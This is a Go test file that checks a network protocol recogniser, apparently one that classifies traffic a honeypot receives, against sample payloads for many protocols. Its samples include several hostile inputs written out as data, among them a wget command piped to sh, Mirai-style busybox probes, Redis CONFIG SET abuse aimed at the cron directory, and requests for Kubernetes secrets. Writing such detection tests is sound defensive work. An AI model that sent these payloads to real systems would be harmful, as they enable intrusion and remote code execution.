package protocol

import (
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"terroir"
)

// example is a payload with its name and label. At least one stands for every name.
type example struct{ name, label, b string }

const (
	mongoQuery  = "\x3a\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\xd4\x07\x00\x00\x00\x00\x00\x00admin.$cmd\x00\x00\x00\x00\x00\xff\xff\xff\xff\x13\x00\x00\x00\x10isMaster\x00\x01\x00\x00\x00\x00"
	mongoMsg    = "\x33\x00\x00\x00\x02\x00\x00\x00\x00\x00\x00\x00\xdd\x07\x00\x00\x00\x00\x00\x00\x00\x1e\x00\x00\x00\x10listDatabases\x00\x01\x00\x00\x00\x00"
	ike2        = "\x01\x02\x03\x04\x05\x06\x07\x08\x00\x00\x00\x00\x00\x00\x00\x00\x21\x20\x22\x08\x00\x00\x00\x00\x00\x00\x00\x1c"
	rdpCookie   = "\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=hello\r\n\x01\x00\x08\x00\x03\x00\x00\x00"
	bitcoinVers = "\xf9\xbe\xb4\xd9version\x00\x00\x00\x00\x00\x55\x00\x00\x00\x01\x02\x03\x04"
	postHead    = "POST / HTTP/1.1\r\nHost: 192.0.2.1:8545\r\nContent-Type: application/json\r\n\r\n"
	netbiosName = "\xe5\xd8\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00 CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\x00\x00\x21\x00\x01"
	adbConnect  = "CNXN\x00\x00\x00\x01\x00\x10\x00\x00\x07\x00\x00\x00\x32\x02\x00\x00\xbc\xb1\xa7\xb1host::\x00"
)

var overTCP = []example{
	{"http", "GET /", "GET / HTTP/1.1\r\nHost: x\r\n\r\n"}, {"http", "GET /nice%20ports", "GET /nice%20ports HTTP/1.0\r\n\r\n"},
	{"http", "PRI *", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"}, {"http", "GET /x", "GET /x?y=1\r\n"}, {"http", "POST /cgi-bin/a", "POST /cgi-bin/a?x HTTP/1.1\r\n\r\n"},
	{"http", "GET /version", "GET /version HTTP/1.1\r\n\r\n"}, {"http", "GET /", "GET/HTTP/1.1\r\nHost:x\r\n\r\n"},
	{"http", "GET /api/v1/users", "GET /api/v1/users HTTP/1.1\r\n\r\n"}, {"http", "GET /v2/_catalog", "GET /v2/_catalog HTTP/1.1\r\n\r\n"},
	{"http", "POST /", postHead + `{"method":"nothing_here"}`}, {"http", "POST /json_rpc", "POST /json_rpc HTTP/1.1\r\n\r\n" + `{"method":"getblockcount"}`},
	{"http", "", "HTTP/1.1 400 Bad Request\r\n\r\n"}, {"http", "FOO /", "FOO / HTTP/1.1\r\n\r\n"}, {"http", "GET /_all_dbs", "GET /_all_dbs HTTP/1.1\r\n\r\n"},
	{"http-proxy", "CONNECT a.example:443", "CONNECT a.example:443 HTTP/1.1\r\n\r\n"}, {"http-proxy", "CONNECT zz.bdstatic.com:443", "CONNECTzz.bdstatic.com:443HTTP/1.1\r\n\r\n"},
	{"http-proxy", "GET http://a.example/", "GET http://a.example/?q HTTP/1.1\r\n\r\n"},
	{"docker", "GET /version", "GET /v1.16/version HTTP/1.1\r\n\r\n"}, {"docker", "POST /containers/create", "POST /v1.24/containers/create HTTP/1.1\r\n\r\n{}"},
	{"docker", "GET /containers/json", "GET /containers/json?all=1 HTTP/1.1\r\n\r\n"}, {"docker", "HEAD /_ping", "HEAD /_ping HTTP/1.1\r\n\r\n"},
	{"docker", "POST /containers/{id}/start", "POST /v1.41/containers/cc4fc8e49cadbb8bc41437dc2f9979a7/start HTTP/1.1\r\n\r\n"},
	{"kubernetes", "GET /api/v1/namespaces/kube-system/secrets", "GET /api/v1/namespaces/kube-system/secrets HTTP/1.1\r\n\r\n"},
	{"kubernetes", "GET /apis/apps/v1/daemonsets", "GET /apis/apps/v1/daemonsets HTTP/1.1\r\n\r\n"}, {"kubernetes", "GET /apis", "GET /apis HTTP/1.1\r\n\r\n"},
	{"etcd", "GET /v2/keys/", "GET /v2/keys/?recursive=true HTTP/1.1\r\n\r\n"}, {"etcd", "POST /v3/kv/range", "POST /v3/kv/range HTTP/1.1\r\n\r\n{}"},
	{"etcd", "POST /v3beta/kv/range", "POST /v3beta/kv/range HTTP/1.1\r\n\r\n{}"},
	{"elasticsearch", "GET /_cat/indices", "GET /_cat/indices?v HTTP/1.1\r\n\r\n"}, {"elasticsearch", "POST /logs/_search", "POST /logs/_search HTTP/1.1\r\n\r\n{}"},
	{"jupyter", "POST /api/kernels", "POST /api/kernels HTTP/1.1\r\n\r\n"}, {"jupyter", "GET /terminals/websocket/1", "GET /terminals/websocket/1 HTTP/1.1\r\n\r\n"},
	{"ethereum", "eth_blockNumber", postHead + `{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":1}`},
	{"ethereum", "personal_unlockAccount", postHead + `[{"id":1, "method" : "personal_unlockAccount"}]`},
	{"bitcoin", "getblockcount", postHead + `{"method":"getblockcount"}`}, {"bitcoin", "version", bitcoinVers},
	{"stratum", "mining.subscribe", `{"id":1,"method":"mining.subscribe","params":[]}` + "\n"},
	{"stratum", "login", `{"id":1,"method":"login","params":{"login":"4x","pass":"x"}}` + "\n"},
	{"redis", "PING", "*1\r\n$4\r\nPING\r\n"}, {"redis", "INFO", "INFO\r\n"}, {"redis", "CONFIG GET", "config get *\r\n"}, {"redis", "INFO", "info\n"},
	{"redis", "CONFIG SET, SLAVEOF, MODULE LOAD", "*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$4\r\n/tmp\r\n*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$1\r\na\r\n$1\r\nb\r\n" +
		"*3\r\n$7\r\nSLAVEOF\r\n$9\r\n192.0.2.1\r\n$2\r\n80\r\n*3\r\n$6\r\nMODULE\r\n$4\r\nLOAD\r\n$5\r\na.so\r\n\r\n"},
	{"redis", "CONFIG SET, SAVE", "CONFIG SET dir /var/spool/cron\r\nSAVE\r\n"}, {"redis", "CONFIG SET", "configsetdbfilename\"backup.db\"\r\n"},
	{"redis", "NONEXISTENT", "NONEXISTENT\r\n"}, {"redis", "AUTH", "AUTH secret\r\n"}, {"redis", "", "*3\r\n$"},
	{"memcached", "stats", "stats\r\n"}, {"memcached", "version", "version\r\n"}, {"memcached", "set", "set a 0 0 5\r\nhello\r\n"}, {"memcached", "stats items", "stats items\r\n"},
	{"memcached", "version", "\x80\x0b\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"},
	{"postgresql", "SSLRequest", "\x00\x00\x00\x08\x04\xd2\x16\x2f"}, {"postgresql", "GSSENCRequest", "\x00\x00\x00\x08\x04\xd2\x16\x30"},
	{"postgresql", "StartupMessage", "\x00\x00\x00\x13\x00\x03\x00\x00user\x00zeek\x00\x00"},
	{"postgresql", "CancelRequest", "\x00\x00\x00\x10\x04\xd2\x16\x2e\x00\x00\x00\x01\x00\x00\x00\x02"},
	{"mysql", "HandshakeResponse", "\x26\x00\x00\x01\x05\xa6\x0f\x00\x00\x00\x00\x01\x21" + strings.Repeat("\x00", 23) + "root\x00\x00"},
	{"mysql", "SSLRequest", "\x20\x00\x00\x01\x85\xae\xff\x19\x00\x00\x00\x01\x21" + strings.Repeat("\x00", 23)},
	{"mongodb", "OP_QUERY isMaster", mongoQuery}, {"mongodb", "OP_MSG listDatabases", mongoMsg},
	{"ssh", "Go", "SSH-2.0-Go\r\n"}, {"ssh", "OpenSSH_7.6p1", "SSH-2.0-OpenSSH_7.6p1 Ubuntu-4ubuntu0.3\r\n"}, {"ssh", "libssh2_1.10.0", "SSH-2.0-libssh2_1.10.0\r\n"},
	{"rdp", "connection request, mstshash=hello", rdpCookie}, {"rdp", "connection request, mstshash=a", "\x03\x00\x00\x25\x20\xe0\x00\x00\x00\x00\x00Cookie:mstshash=a\r\n"}, {"rdp", "connection request", "\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00"},
	{"vnc", "ProtocolVersion 003.008", "RFB 003.008\n"}, {"rsync", "protocol 29", "@RSYNCD: 29\n"}, {"rsync", "protocol 29", "@RSYNCD:29\n"},
	{"telnet", "DO SUPPRESS-GO-AHEAD, WILL TERMINAL-TYPE", "\xff\xfd\x03\xff\xfb\x18"}, {"telnet", "", "\xff\xf4\xff\xfd\x06"},
	{"tn3270", "IBM-3279-4-E", "\xff\xfb\x18\xff\xfa\x18\x00IBM-3279-4-E\xff\xf0\xff\xfb\x19\xff\xfd\x19\xff\xfb\x00\xff\xfd\x00"},
	{"tls", "ClientHello", "\x16\x03\x01\x00\x2d\x01\x00\x00\x29\x03\x03"}, {"tls", "Alert", "\x15\x03\x01\x00\x02\x02\x28"},
	{"tls", "ClientHello", "\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10" + strings.Repeat("\x07", 37)},
	{"smb", "NEGOTIATE", "\x00\x00\x00\x45\xffSMB\x72"}, {"smb", "NEGOTIATE", "\x00\x00\x00\x66\xfeSMB\x40\x00\x00\x00\x00\x00\x00\x00\x00\x00"},
	{"ldap", "bindRequest", "0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\x00\x80\x00"}, {"krb", "AS-REQ", "\x00\x00\x00\x16\x6a\x14\x30\x12\xa1\x03\x02\x01\x05\xa2\x03\x02\x01\x0a\xa4\x06\x30\x04\xa0\x02"},
	{"mqtt", "CONNECT", "\x10\x10\x00\x04MQTT\x04\x02\x00\x3c\x00\x04test"}, {"amqp", "protocol header 0-9-1", "AMQP\x00\x00\x09\x01"}, {"amqp", "protocol header 1-0-0", "AMQP\x00\x01\x00\x00"},
	{"rtsp", "OPTIONS", "OPTIONS / RTSP/1.0\r\n\r\n"}, {"rtsp", "OPTIONS", "OPTIONS*RTSP/1.0\r\n"}, {"rtsp", "DESCRIBE", "DESCRIBE rtsp://192.0.2.1/ RTSP/1.0\r\n\r\n"},
	{"sip", "OPTIONS", "OPTIONS sip:nm SIP/2.0\r\n"}, {"sip", "REGISTER", "REGISTER sip:192.0.2.1 SIP/2.0\r\n"},
	{"socks", "SOCKS5 greeting", "\x05\x01\x00"}, {"socks", "SOCKS4 CONNECT 127.0.0.1:80", "\x04\x01\x00\x50\x7f\x00\x00\x01\x00"},
	{"socks", "SOCKS4 CONNECT a.example:80", "\x04\x01\x00\x50\x00\x00\x00\x01me\x00a.example\x00"}, {"socks", "SOCKS5 CONNECT", "\x05\x01\x00\x05\x01\x00\x03\x09a.example\x00\x50"},
	{"dns", "A example.com", "\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"},
	{"modbus", "Read Coils", "\x00\x01\x00\x00\x00\x06\x01\x01\x00\x00\x00\x03"}, {"modbus", "Read Device Identification", "\x00\x00\x00\x00\x00\x05\x00\x2b\x0e\x01\x00"},
	{"jdwp", "handshake", "JDWP-Handshake"}, {"java-rmi", "StreamProtocol", "JRMI\x00\x02K"}, {"x11", "connection setup", "l\x00\x0b\x00\x00\x00\x00\x00\x00\x00\x00\x00"},
	{"adb", "CNXN", adbConnect}, {"minecraft", "handshake, status", "\x0f\x00\x2f\x09localhost\x63\xdd\x01\x01\x00"}, {"minecraft", "legacy ping", "\xfe\x01"},
	{"shell", "wget", "wget http://192.0.2.1/x.sh -O- | sh\n"}, {"shell", "cd", "cd /tmp || cd /var/run; rm -rf x\n"}, {"shell", "enable", "enable\r\nsystem\r\nshell\r\nsh\r\n"},
	{"shell", "/bin/busybox", "/bin/busybox MIRAI\r\n"}, {"shell", "echo", ";echo -e '\\x41'\n"}, {"shell", "uname", "uname -a\n"}, {"shell", "id", "id; uname -a\n"}, {"shell", "#!/bin/sh", "#!/bin/sh\n"},
	{"giop", "", "GIOP\x01\x00\x01\x00$\x00\x00\x00"}, {"t3", "", "t3 12.1.2\nAS:2048\nHL:19\n\n"}, {"gh0st", "", "Gh0st\xad\x00\x00\x00\xe0\x00\x00\x00x\x9cKS"},
	{"xmpp", "", "<?xml version='1.0'?><stream:stream xmlns:stream='http://etherx.jabber.org/streams'>"},
	{"smtp", "EHLO", "EHLO example.com\r\n"}, {"ftp", "USER", "USER anonymous\r\n"}, {"ftp", "AUTH", "AUTH TLS\r\n"}, {"pop3", "CAPA", "CAPA\r\n"}, {"imap", "CAPABILITY", "a001 CAPABILITY\r\n"},
	{"sunrpc", "portmapper GETPORT", "\x80\x00\x00\x38\x01\x02\x03\x04\x00\x00\x00\x00\x00\x00\x00\x02\x00\x01\x86\xa0\x00\x00\x00\x02\x00\x00\x00\x03" + strings.Repeat("\x00", 16)},
	{"", "MGLNDD", "MGLNDD_192.0.2.1_6379\n"}, {"", "", "hello\n"}, {"", "", "\x00"}, {"", "", "\r\n\r\n"}, {"", "", "infotainment"}, {"", "", "QUIT\r\n"}, {"", "", "help\r\n"},
	{"", "", "\x03\x00\x00\x16\x11\xe0\x00\x00\x00\x01\x00\xc0\x01\x0a\xc1\x02\x01\x00\xc2\x02\x01\x02"}, // S7 of Siemens: like RDP up to the parameters
	{"", "", "Set the table for two\n"}, {"", "", "get ready\n"}, {"", "", "GET READY\n"}, {"", "", "\xff\xfe<\x00x\x00"}, {"", "", "OPTIONS\r\n"}, {"", "", "AUTH PLAIN abc\r\n"},
	{"", "", `{"method":"eth_blockNumber"}`}, {"", "", "*0\r\n"}, {"", "", "*1\r\n$4\r\nPINGxx"}, {"", "", "echo hello\n"}, {"", "", "cat\n"}, {"", "", "find me tomorrow; or never\n"},
}

var overUDP = []example{
	{"dns", "A example.com", "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"},
	{"dns", "CH TXT VERSION.BIND", "\x34\xef\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07VERSION\x04BIND\x00\x00\x10\x00\x03"},
	{"dns", "ANY .", "\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\xff\x00\x01"},
	{"ntp", "client", "\x1b" + strings.Repeat("\x00", 47)}, {"ntp", "monlist", "\x17\x00\x03\x2a\x00\x00\x00\x00"}, {"ntp", "readvar", "\x16\x02\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00"},
	{"snmp", "GetNextRequest", "0&\x02\x01\x01\x04\x06public\xa1\x19\x02\x04\xdcc\xc2\x9a\x02\x01\x00\x02\x01\x000\x0b0\x09\x06\x05+\x06\x01\x02\x01\x05\x00"},
	{"snmp", "SNMPv3", "0:\x02\x01\x030\x0f\x02\x02Ji\x02\x03\x00\xff\xe3\x04\x01\x04\x02\x01\x03"},
	{"ssdp", "M-SEARCH", "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\n\r\n"},
	{"sip", "OPTIONS", "OPTIONS sip:100@192.0.2.1 SIP/2.0\r\n"}, {"coap", "GET /.well-known/core", "\x40\x01\x7dp\xbb.well-known\x04core"},
	{"ike", "IKE_SA_INIT", ike2}, {"ike", "IKE_SA_INIT", "\x00\x00\x00\x00" + ike2}, {"bacnet", "ReadProperty", "\x81\x0a\x00\x11\x01\x04\x00\x05\x01\x0c\x0c\x02\x3f\xff\xff\x19\x4b"},
	{"dtls", "ClientHello", "\x16\xfe\xfd\x00\x00\x00\x00\x00\x00\x00\x00\x00\xf6\x01\x00\x00\xea"}, {"rdp", "UDP SYN", "\x00\x00\x00\x00\x00\x00\x00\xff\x00\x00\x00\x00\x00\x00\x00\x00"},
	{"quic", "Initial", "\xc3\x00\x00\x00\x01\x08abcdefgh\x00\x00\x40\x28" + strings.Repeat("\x99", 40)}, {"netbios", "NBSTAT *", netbiosName}, {"tftp", "RRQ /a", "\x00\x01/a\x00netascii\x00"},
	{"memcached", "stats", "\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n"}, {"ldap", "searchRequest", "0%\x02\x01\x01c \x04\x00\x0a\x01\x00\x0a\x01\x00\x02\x01\x00\x02\x01\x00\x01\x01\x00"},
	{"sunrpc", "portmapper DUMP", "\x1a\xa9\xff\xe1\x00\x00\x00\x00\x00\x00\x00\x02\x00\x01\x86\xa0\x00\x00\x00\x02\x00\x00\x00\x04" + strings.Repeat("\x00", 16)},
	{"rtsp", "OPTIONS", "OPTIONS rtsp://192.0.2.1 RTSP/1.0\r\n\r\n"}, {"", "", "GET / HTTP/1.1\r\n\r\n"}, {"", "", "SSH-2.0-Go\r\n"}, {"", "", "hello"},
}

func TestNamesAndLabels(t *testing.T) {
	missing := Names()
	for transport, list := range map[terroir.Transport][]example{terroir.TCP: overTCP, terroir.UDP: overUDP} {
		for _, e := range list {
			got := Recognize([]byte(e.b), transport)
			if got != e.name {
				t.Errorf("%q over %s is taken for %q, want %q", e.b, transport, got, e.name)
			}
			if label := Label([]byte(e.b), e.name); label != e.label {
				t.Errorf("%q is labelled %q, want %q", e.b, label, e.label)
			}
			missing = slices.DeleteFunc(missing, func(n string) bool { return n == e.name })
		}
	}
	if len(missing) > 0 {
		t.Errorf("without an example: %v", missing)
	}
	if Recognize([]byte("GET / HTTP/1.1\r\n\r\n"), terroir.ICMP) != "" {
		t.Error("ICMP has a name")
	}
}

func TestServersThatSpeakFirst(t *testing.T) {
	for b, want := range map[string]string{
		"SSH-2.0-OpenSSH_9.7\r\n": "ssh", "RFB 003.008\n": "vnc", "+OK Dovecot ready.\r\n": "pop3", "* OK IMAP4rev1\r\n": "imap", "+OK\r\n": "",
		"220 mail ESMTP\r\n": "smtp", "220 ProFTPD\r\n220 FTP\r\n": "ftp", "-ERR unknown command 'FAKE'\r\n": "redis", "J\x00\x00\x00\x0a8.0.31\x00": "mysql", "": "",
	} {
		if got := RecognizeServer([]byte(b)); got != want {
			t.Errorf("%q is taken for %q, want %q", b, got, want)
		}
	}
}

// TestEveryNameByOneOnly asks all recognisers about each example and each real payload: whatever the order, no other would have
// had it.
func TestEveryNameByOneOnly(t *testing.T) {
	one := func(b []byte, i int, name string) {
		b = b[:min(len(b), maxLooked)]
		for _, r := range byFirst[i][b[0]] {
			if r.is(b) && r.name != name && !(name == "tn3270" && r.name == "telnet") {
				t.Errorf("%.100q of %s is %s as well", b, name, r.name)
			}
		}
	}
	for i, list := range [][]example{overTCP, overUDP} {
		for _, e := range list {
			one([]byte(e.b), i, e.name)
		}
	}
	for _, c := range corpora {
		for _, s := range c.samples(t) {
			i := 0
			if s.transport == terroir.UDP {
				i = 1
			}
			one(s.b, i, Recognize(s.b, s.transport))
		}
	}
}

// TestNoNameForNoise: random bytes have no name, also where the first is one with which protocols begin, and where most are
// zero as in many protocols. A few will have one by chance: fewer than one in 50,000 are allowed.
func TestNoNameForNoise(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	const n = 600_000
	wrong := 0
	for i := range n {
		b := make([]byte, 1+r.IntN(200))
		for j := range b {
			if i%2 == 0 || r.IntN(3) == 0 {
				b[j] = byte(r.Uint32())
			}
		}
		b[0] = byte(i >> 1)
		for _, transport := range []terroir.Transport{terroir.TCP, terroir.UDP} {
			if name := Recognize(b, transport); name != "" {
				wrong++
				t.Logf("%s %s: %.60q", transport, name, b)
			}
		}
	}
	if t.Logf("%d of %d", wrong, 2*n); wrong > 2*n/50_000 {
		t.Error("too many")
	}
}

// TestNoNameForProse: English, cut anywhere, has no name.
func TestNoNameForProse(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	for _, text := range prose(t) {
		for range 200 {
			from := r.IntN(len(text))
			b := text[from:min(len(text), from+1+r.IntN(300))]
			if name := Recognize([]byte(b), terroir.TCP); name != "" {
				t.Errorf("prose is taken for %s: %.80q", name, b)
			}
		}
		for line := range strings.Lines(text) {
			for _, b := range []string{line, strings.ToUpper(line), strings.ToLower(line), strings.TrimLeft(line, " #*->|`")} {
				if name := Recognize([]byte(b), terroir.TCP); name != "" && b != "" {
					t.Errorf("prose is taken for %s: %.80q", name, b)
				}
			}
		}
	}
}

// prose is English from the repository, and sentences that begin with the commands of protocols.
func prose(t *testing.T) []string {
	t.Helper()
	list := []string{"Get the best of it.\nSet it down, put it away, post it, and head home.\nDelete nothing.\nOptions are many.\nCat and mouse; echo and silence.\n" +
		"Select one of them\nSave the date\nEcho came back\nType something\nTouch wood\nfind the way home; sleep well\nkill time\nid est\nConnect the dots: all of them\n" +
		"Version control matters\nstats are boring\nincr is no word\nuser experience\nhelp me\nquit smoking\nPing me tomorrow\nmonitor the situation\nauth is short for author\n" +
		"info desk on the left\nmove along\ncopy that\nsearch me\nreport to the front\nreplace the bulb\nappend this\nadd salt to it\nplay it again\nrecord it\nnotify nobody\n"}
	for _, name := range []string{"LICENSE", "README.md", "ARCHITECTURE.md", "CONTRIBUTING.md"} {
		b, err := os.ReadFile(filepath.Join("..", "..", name))
		if err != nil {
			t.Fatal(err)
		}
		list = append(list, string(b))
	}
	return list
}

// TestCutAnywhere: bytes that end early have the right name or none.
func TestCutAnywhere(t *testing.T) {
	for transport, list := range map[terroir.Transport][]example{terroir.TCP: overTCP, terroir.UDP: overUDP} {
		for _, e := range list {
			for n := range len(e.b) {
				if e.name == "" {
					break // More may have spoilt it.
				}
				got := Recognize([]byte(e.b[:n]), transport)
				if got != "" && got != e.name && Over(e.name) != got && !(e.name == "http-proxy" || e.name == "bitcoin") {
					t.Errorf("%q of %q is taken for %s, want %s", e.b[:n], e.b, got, unknown(e.name))
				}
			}
		}
	}
}

func TestUserAgent(t *testing.T) {
	for _, c := range []struct{ b, want string }{
		{"GET / HTTP/1.1\r\nHost: x\r\nuser-agent:  curl/7.68.0 \r\nUser-Agent: second\r\n\r\n", "curl/7.68.0"},
		{"GET/HTTP/1.1\r\nHost:x\r\nUser-Agent:Mozilla/5.0(Linux;Android6.0;Nexus5Build/MRA58N)\r\n\r\n", "Mozilla/5.0(Linux;Android6.0;Nexus5Build/MRA58N)"},
		{"OPTIONS sip:nm SIP/2.0\r\nUser-Agent: friendly-scanner\r\n\r\n", "friendly-scanner"}, {"OPTIONS * RTSP/1.0\r\nUser-Agent: VLC\r\n\r\n", "VLC"},
		{"GET / HTTP/1.1\nUser-Agent: bare\n\n", "bare"}, {"GET / HTTP/1.1\r\nUser-Agent: a\xff\x1b[31mb\r\n\r\n", "a\xff\x1b[31mb"},
		{"POST / HTTP/1.1\r\nHost: x\r\n\r\nUser-Agent: in the body\r\n", ""}, {"GET / HTTP/1.1\r\nUser-Agent: " + strings.Repeat("a", 600), strings.Repeat("a", 512)},
		{"hello\r\nUser-Agent: x\r\n", ""}, {"", ""}, {"GET / HTTP/1.1\r\nUser-Agent:\r\n\r\n", ""}, {"\r\nOPTIONS sip:nm SIP/2.0\r\nUser-Agent: x\r\n", "x"},
	} {
		if got := UserAgent([]byte(c.b)); got != c.want {
			t.Errorf("%q: %q, want %q", c.b, got, c.want)
		}
	}
}

func TestLabelsAreSafe(t *testing.T) {
	for _, c := range []struct{ name, b, want string }{
		{"http", "GET /\x1b[31m\u202e\xff HTTP/1.1\r\n", "GET /?[31m??"}, {"http", "GET /" + strings.Repeat("é", 200) + " HTTP/1.1\r\n", "GET /" + strings.Repeat("é", 57)},
		{"rdp", "\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=\x00\x07a\r\n", "connection request, mstshash=??a"},
		{"nonsense", "GET / HTTP/1.1\r\n", ""}, {"http", "", ""}, {"dns", "GET / HTTP/1.1\r\n", ""}, {"mongodb", "GET", ""}, {"docker", "\x00\x01", ""},
	} {
		if got := Label([]byte(c.b), c.name); got != c.want {
			t.Errorf("%s %q: %q, want %q", c.name, c.b, got, c.want)
		}
	}
}
